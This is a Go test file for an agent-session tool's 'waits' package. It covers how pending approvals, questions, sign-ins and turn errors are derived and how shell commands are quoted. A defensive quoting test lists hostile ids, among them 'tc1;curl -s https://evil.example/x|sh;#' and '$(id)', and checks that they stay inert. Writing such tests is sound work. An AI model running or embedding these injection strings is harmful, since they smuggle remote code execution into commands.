package waits

import (
	"context"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ahptui/ahptui/protocol"
)

func str(s string) *string { return &s }

func pending(id, name string) protocol.ToolCallPendingConfirmationState {
	return protocol.ToolCallPendingConfirmationState{ToolCallID: id, ToolName: name, DisplayName: name,
		InvocationMessage: protocol.PlainString("do " + name)}
}

func part(v protocol.ResponsePartVariant) protocol.ResponsePart {
	return protocol.ResponsePart{Variant: v}
}

// TestDeriveKinds: one host's state with each kind of wait; the items,
// their identities and their answers, the host's flag in each.
func TestDeriveKinds(t *testing.T) {
	const uri, chat = "ahp-session:/s1", "ahp-chat:/s1"
	tc := pending("tc1", "write")
	answered := pending("tc-done", "read")
	sess := protocol.SessionState{Title: "one", InputNeeded: []protocol.SessionInputRequest{
		{Variant: protocol.SessionToolConfirmationRequest{ID: "a", Chat: chat, TurnID: "t2", ToolCall: protocol.ToolCallConfirmationState{Variant: tc}}},
		// Listed still, but the chat shows it done: on its way to the host.
		{Variant: protocol.SessionToolConfirmationRequest{ID: "b", Chat: chat, TurnID: "t2", ToolCall: protocol.ToolCallConfirmationState{Variant: answered}}},
	}}
	ch := protocol.ChatState{Resource: chat, ActiveTurn: &protocol.ActiveTurn{ID: "t2", ResponseParts: []protocol.ResponsePart{
		part(protocol.ToolCallResponsePart{ToolCall: protocol.ToolCallState{Variant: tc}}),
		part(protocol.ToolCallResponsePart{ToolCall: protocol.ToolCallState{Variant: protocol.ToolCallCompletedState{ToolCallID: "tc-done", ToolName: "read"}}}),
		part(protocol.InputRequestResponsePart{Request: protocol.ChatInputRequest{ID: "q1", Message: str("which?")}}),
	}}}
	stopped := protocol.ChatState{Resource: "ahp-chat:/s1b", Turns: []protocol.Turn{{ID: "t9", State: protocol.TurnStateError,
		ResponseParts: []protocol.ResponsePart{part(protocol.ErrorResponsePart{Error: protocol.ErrorInfo{Message: "boom"}})}}}}
	h := Host{Name: "ws://h/", Flags: []string{"--host", "work"}, Sessions: []Session{
		{Summary: protocol.SessionSummary{Resource: uri, Title: "One", Status: protocol.SessionStatusInputNeeded}, State: &sess,
			Chats: []protocol.ChatState{ch, stopped}, Prompts: []string{"https://api.example/"}},
		{Summary: protocol.SessionSummary{Resource: "ahp-session:/s2", Title: "Two", Status: protocol.SessionStatusInputNeeded}, Detail: "not watched"},
		{Summary: protocol.SessionSummary{Resource: "ahp-session:/s3", Status: protocol.SessionStatusIdle}},
	}}
	var got []string
	for _, it := range Derive(h) {
		got = append(got, it.Word()+" "+it.Session+" "+it.ID()+it.Server+" "+it.Name+" | "+Quote(it.Answer))
		if it.Host != "ws://h/" {
			t.Errorf("%+v: host %q", it, it.Host)
		}
	}
	want := []string{
		"approval ahp-session:/s1 tc1 write | ahptui approve --host work ahp-session:/s1 tc1",
		"input ahp-session:/s1 q1 which? | ahptui answer --host work ahp-session:/s1 q1",
		"sign-in ahp-session:/s1 agent-sign-in:https://api.example/ https://api.example/ | ahptui auth login --host work --session ahp-session:/s1 https://api.example/",
		"turn-error ahp-session:/s1  boom | ahptui show --host work ahp-session:/s1",
		"needs-input ahp-session:/s2   | ahptui show --host work ahp-session:/s2",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("items:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// Open, the session's "needs input" row does not stand in for it.
	h.Sessions = h.Sessions[1:2]
	h.Sessions[0].Open = true
	if items := Derive(h); len(items) != 0 {
		t.Errorf("open session with nothing shown: %+v", items)
	}
}

// TestQuoteInert: a host's id with shell syntax, quoted, is one inert
// argument to a real POSIX shell: printed back as it was, nothing run.
func TestQuoteInert(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	hostile := []string{"tc1;curl -s https://evil.example/x|sh;#", "a'b", "$(id)", "`id`", "x\ny", "", "-rf", "ahp-session:/demo", "it's a 'test'"}
	for _, h := range hostile {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		out, err := exec.CommandContext(ctx, sh, "-c", "printf '%s\\n' "+QuoteArg(h)).Output()
		cancel()
		if err != nil || string(out) != h+"\n" {
			t.Errorf("%q quoted %s: sh printed %q (%v)", h, QuoteArg(h), out, err)
		}
	}
	if q := QuoteArg("tc1;curl -s https://evil.example/x|sh;#"); q != "'tc1;curl -s https://evil.example/x|sh;#'" {
		t.Errorf("quoted %s", q)
	}
	if q := QuoteArg("a'b"); q != `'a'\''b'` {
		t.Errorf("quoted %s", q)
	}
}

// TestDashArgumentAfterDoubleDash: a host's id starting with "-" comes
// after "--", so the command never reads it as a flag.
func TestDashArgumentAfterDoubleDash(t *testing.T) {
	got := command(Host{Flags: []string{"--host", "h"}}, []string{"approve"}, nil, "ahp-session:/s", "--config-dir=/tmp/x")
	if !slices.Equal(got, []string{"ahptui", "approve", "--host", "h", "--", "ahp-session:/s", "--config-dir=/tmp/x"}) {
		t.Errorf("argv %q", got)
	}
}
